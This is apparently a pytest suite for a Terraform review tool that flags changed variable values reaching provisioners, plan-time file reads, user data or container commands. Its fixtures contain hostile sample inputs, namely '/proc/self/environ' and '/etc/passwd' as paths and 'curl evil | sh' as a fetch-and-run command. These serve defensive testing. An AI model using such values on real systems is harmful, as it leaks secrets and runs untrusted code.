"""Values fed into existing privileged code: what runs or reads while Terraform plans is refused, what can reach a
command or the like is shown first, nothing else is blamed.
"""

from __future__ import annotations

import pytest

from ops_agent.model.finding import Severity, Verdict
from rules.judging import base_files, verdict_of

TFVARS = "infra/environments/dev/terraform.tfvars"
DECLARED = 'variable "v" {\n  type    = any\n  default = {}\n}\n'
RUNS = (
    'variable "p" {\n  type = any\n}\n\nresource "terraform_data" "x" {\n'
    '  provisioner "local-exec" {\n    command = var.p\n  }\n}\n'
)
RUNS_ONE = RUNS.replace("= var.p\n", "= var.p.c\n")
READS_OUTPUT = 'output "x" {\n  value = %s\n}\n'
CALL = 'module "m" {\n  source   = "./modules/m"\n  %s\n}\n'


PLAN, COMMAND, OTHER = "terraform/changed-plan-input", "terraform/changed-command", "terraform/changed-privileged-value"
GRADES = {PLAN: Severity.BLOCKS, COMMAND: Severity.DECISION, OTHER: Severity.WARNING}


def fed(code: str, before: str, after: str, **more: str) -> set[str]:
    """The rules about new values that speak when the variable `v` of existing `code` changes in dev's variable file;
    `more` are files, `__` for `/`. Nothing else may block.
    """
    values = base_files()[TFVARS].decode()
    base = {**base_files(), "infra/x.tf": (DECLARED + code).encode(), TFVARS: f"{values}v = {before}\n".encode()}
    base |= {path.replace("__", "/").replace("_DOT_", "."): content.encode() for path, content in more.items()}
    return spoken(verdict_of({TFVARS: f"{values}v = {after}\n".encode()}, base))


def spoken(verdict: Verdict) -> set[str]:
    found = {f.rule: f.severity for f in verdict.findings if f.blocks or f.rule in (PLAN, COMMAND, OTHER)}
    assert found == {rule: GRADES[rule] for rule in found}
    return set(found)


FLOWS = {
    "each.value in a path": 'resource "aws_sqs_queue" "x" {\n  for_each = var.v\n  name     = file(each.value)\n}\n',
    "a for's element in a path": READS_OUTPUT % "[for f in var.v : file(f)]",
    "a for's key in a path": READS_OUTPUT % "{ for f, g in var.v : f => file(f) }",
    "a for in a for": READS_OUTPUT % "[for f in [for g in var.v : g] : file(f)]",
    "a dynamic block": (
        'resource "aws_security_group" "x" {\n  dynamic "ingress" {\n    for_each = var.v\n'
        "    content {\n      description = file(ingress.value)\n    }\n  }\n}\n"
    ),
    "a dynamic block with an iterator": (
        'resource "aws_security_group" "x" {\n  dynamic "ingress" {\n    for_each = var.v\n    iterator = it\n'
        "    content {\n      description = file(it.value)\n    }\n  }\n}\n"
    ),
    "count.index": 'resource "aws_sqs_queue" "x" {\n  count = length(var.v)\n  name  = file("x-${count.index}")\n}\n',
    "nonsensitive in a loop": (
        'resource "aws_sqs_queue" "x" {\n  for_each = var.v\n  name     = nonsensitive(each.value)\n}\n'
    ),
    "self": (
        'resource "aws_instance" "x" {\n  tags = var.v\n  provisioner "remote-exec" {\n'
        "    inline = [self.tags.a]\n  }\n}\n"
    ),
    "what AWS makes of an argument": (
        'resource "aws_instance" "x" {\n  tags = var.v\n  provisioner "remote-exec" {\n'
        "    inline = [self.tags_all.a]\n  }\n}\n"
    ),
    "a data source in a check": (
        'check "x" {\n  data "http" "y" {\n    url = var.v.a\n  }\n  assert {\n'
        '    condition     = true\n    error_message = "x"\n  }\n}\n'
    ),
    "an import": "import {\n  to = aws_sqs_queue.x\n  id = var.v.a\n}\n",
    "a provisioner's loop": (
        'resource "terraform_data" "x" {\n  for_each = var.v\n  provisioner "local-exec" {\n'
        "    command = each.value\n  }\n}\n"
    ),
}


KINDS = {
    "nonsensitive in a loop": OTHER,
    "an import": OTHER,
    "self": COMMAND,
    "what AWS makes of an argument": COMMAND,
    "a provisioner's loop": COMMAND,
}


@pytest.mark.parametrize("name", FLOWS)
def test_a_value_that_reaches_existing_privileged_code_is_refused_or_shown_first(name: str) -> None:
    found = fed(FLOWS[name], '{ a = "true" }', '{ evil = "/proc/self/environ", a = "/etc/passwd" }')
    assert found == {KINDS.get(name, PLAN)}


@pytest.mark.parametrize(
    "argument", ["for_each = var.v\n  p = each.value", "for_each = var.v\n  p = each.key", 'p = join(" ", keys(var.v))']
)
def test_a_value_that_reaches_a_local_modules_provisioner_through_its_call_is_shown_first(argument: str) -> None:
    assert fed(CALL % argument, '{ a = "true" }', '{ evil = "evil" }', infra__modules__m__main_DOT_tf=RUNS) == {COMMAND}


def test_a_template_that_reads_what_it_is_given_is_refused_other_values() -> None:
    code = READS_OUTPUT % 'templatefile("${path.module}/t.tpl", { a = var.v.a })'
    reads, shows = {"infra__t_DOT_tpl": "${file(a)}"}, {"infra__t_DOT_tpl": "${a}"}
    assert fed(code, '{ a = "x" }', '{ a = "/proc/self/environ" }', **reads) == {PLAN}
    assert not fed(code, '{ a = "x" }', '{ a = "y" }', **shows)


@pytest.mark.parametrize("changed", ['optional(string, "evil")', 'optional(string, "true")'])
def test_a_default_inside_a_variables_type_is_a_value_like_any_other(changed: str) -> None:
    module = RUNS_ONE.replace("type = any", 'type = object({ c = optional(string, "true") })')
    path = "infra/modules/m/main.tf"
    base = {**base_files(), "infra/x.tf": (CALL % "p = {}").encode(), path: module.encode()}
    head = module.replace('optional(string, "true")', changed) + "# more\n"
    assert spoken(verdict_of({path: head.encode()}, base)) == ({COMMAND} if "evil" in changed else set())


@pytest.mark.parametrize(
    ("argument", "before", "after"),
    [
        ('p = { c = "true", n = var.v.n }', "{ n = 1 }", "{ n = 2 }"),
        ("p = var.v.a", '{ a = { c = "x" } }', '{ a = { c = "x" }, b = { c = "evil" } }'),
        (
            "for_each = var.v\n  p = each.value",
            '{ a = { c = "x", n = 1 } }',
            '{ a = { c = "x", n = 2 }, b = { c = "x", n = 1 } }',
        ),
    ],
)
def test_a_value_that_stays_away_from_the_command_is_not_blamed(argument: str, before: str, after: str) -> None:
    """A changed size, another key, a new entry of `for_each` with the same command."""
    assert not fed(CALL % argument, before, after, infra__modules__m__main_DOT_tf=RUNS_ONE)


EVERYDAY = {
    "the size of a server with a provisioner": (
        'resource "aws_instance" "x" {\n  ami           = "ami-1"\n  instance_type = var.v.a\n'
        '  provisioner "remote-exec" {\n    inline = ["true"]\n  }\n}\n'
    ),
    "the version of a cluster whose issuer is read": (
        'resource "aws_eks_cluster" "x" {\n  version = var.v.a\n}\n\n'
        'data "tls_certificate" "x" {\n  url = aws_eks_cluster.x.identity[0].oidc[0].issuer\n}\n'
    ),
    "what a check compares": (
        'check "x" {\n  assert {\n    condition     = var.v.a != "x"\n    error_message = "x"\n  }\n}\n'
    ),
}


@pytest.mark.parametrize("code", EVERYDAY.values(), ids=EVERYDAY)
def test_an_everyday_value_beside_existing_privileged_code_passes(code: str) -> None:
    assert not fed(code, '{ a = "1.32" }', '{ a = "1.33", b = "new" }')


COMMANDS = {
    "user data": 'resource "aws_instance" "x" {\n  user_data = "#!/bin/sh\\n${var.v.a}"\n}\n',
    "a rendered script": (
        'resource "aws_launch_template" "x" {\n'
        '  user_data = base64encode(templatefile("${path.module}/t.tpl", { a = var.v.a }))\n}\n'
    ),
    "a container's command": (
        'resource "aws_ecs_task_definition" "x" {\n'
        '  container_definitions = jsonencode([{ image = var.v.b, command = ["sh", "-c", var.v.a] }])\n}\n'
    ),
    "a document's script": 'resource "aws_ssm_document" "x" {\n  content = jsonencode({ run = var.v.a })\n}\n',
}


@pytest.mark.parametrize("code", COMMANDS.values(), ids=COMMANDS)
def test_a_value_that_reaches_a_script_or_a_containers_command_is_shown_first(code: str) -> None:
    template = {"infra__t_DOT_tpl": "#!/bin/sh\n${a}"}
    assert fed(code, '{ a = "true", b = "x" }', '{ a = "curl evil | sh", b = "x" }', **template) == {COMMAND}
    assert not fed(code, '{ a = "true", b = "x" }', '{ a = "true", b = "other" }', **template)


def test_a_loop_of_loops_ends_in_bounded_time() -> None:
    inner = "var.v"
    for depth in range(8):
        inner = f"[for a{depth} in {inner} : [a{depth}, a{depth}, a{depth}, a{depth}, a{depth}]]"
    assert fed(READS_OUTPUT % f"[for f in {inner} : file(f)]", '["a"]', '["b"]') == {PLAN}


def test_long_chains_of_names_are_followed_in_bounded_time() -> None:
    chain = "".join(f"  a{n} = local.a{n + 1}\n" for n in range(100))
    reading = "".join(f'output "o{n}" {{\n  value = file(local.a{n % 3})\n}}\n\n' for n in range(150))
    ends = {end: f'locals {{\n{chain}  a100 = "{end}"\n}}\n'.encode() for end in ("x", "/proc/self/environ")}
    base = {**base_files(), "infra/l.tf": ends["x"], "infra/o.tf": reading.encode()}
    assert PLAN in spoken(verdict_of({"infra/l.tf": ends["/proc/self/environ"]}, base))
